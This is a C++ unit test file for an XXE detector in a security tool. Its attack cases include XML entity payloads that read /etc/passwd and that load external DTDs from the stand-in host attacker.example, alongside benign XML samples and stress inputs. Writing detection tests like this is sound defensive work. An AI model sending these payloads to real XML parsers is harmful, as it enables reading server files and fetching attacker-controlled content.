#include <string>
#include <vector>

#include "gtest/gtest.h"
#include "runtime/detect/detector.h"
#include "tests/unit/detect/detector_cases.h"

namespace fnguard::detect {
namespace {

using testing::Case;
using testing::Detects;

std::string Repeat(const std::string& s, size_t n) {
  std::string r;
  r.reserve(s.size() * n);
  for (size_t i = 0; i < n; ++i) r += s;
  return r;
}

TEST(XxeTest, DetectsAttacks) {
  const std::vector<std::string> attacks = {
      "<!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><foo>&xxe;</foo>",
      "<!ENTITY % p SYSTEM \"http://attacker.example/e.dtd\"> %p;",
      "<!doctype r [\n <!entity\n a \"b\">]>",
      "<!DOCTYPE r SYSTEM \"http://attacker.example/x.dtd\"><r/>",
      "<r xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"file:///etc/passwd\"/></r>",
      "<!DOCTYPE svg [<!ENTITY a \"x\">]><svg>&a;</svg>",
  };
  for (const std::string& a : attacks) {
    Case c;
    c.value = a;
    EXPECT_TRUE(Detects(XxeDetector(), c)) << a;
    c.location = event::Location::kBody;
    c.path = "body.v";
    EXPECT_TRUE(Detects(XxeDetector(), c)) << a;
  }
}

TEST(XxeTest, IgnoresBenign) {
  const std::vector<std::string> benign = {
      "<?xml version=\"1.0\"?><order><id>1</id></order>",
      "<!DOCTYPE html><html></html>",
      "<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\">",
      "Tom &amp; Jerry",
      "<p>Hello &copy; world</p>x",
  };
  for (const std::string& b : benign) {
    Case c;
    c.value = b;
    Match m;
    EXPECT_FALSE(Detects(XxeDetector(), c, &m)) << b << " -> " << m.rule_id;
    c.location = event::Location::kBody;
    c.path = "body.text";
    EXPECT_FALSE(Detects(XxeDetector(), c, &m)) << b << " -> " << m.rule_id;
  }
}

TEST(XxeTest, CompletesOnPathologicalInput) {
  testing::RunsOnLargeInput(XxeDetector(), std::string(1 << 20, '<'));
  testing::RunsOnLargeInput(XxeDetector(), Repeat("<!", 1 << 19));
  testing::RunsOnLargeInput(XxeDetector(), Repeat("&a;", 1 << 18));
}

TEST(XxeTest, ReportsItsId) {
  EXPECT_EQ(Get(XxeDetector().id()).id(), XxeDetector().id());
}


}  // namespace
}  // namespace fnguard::detect
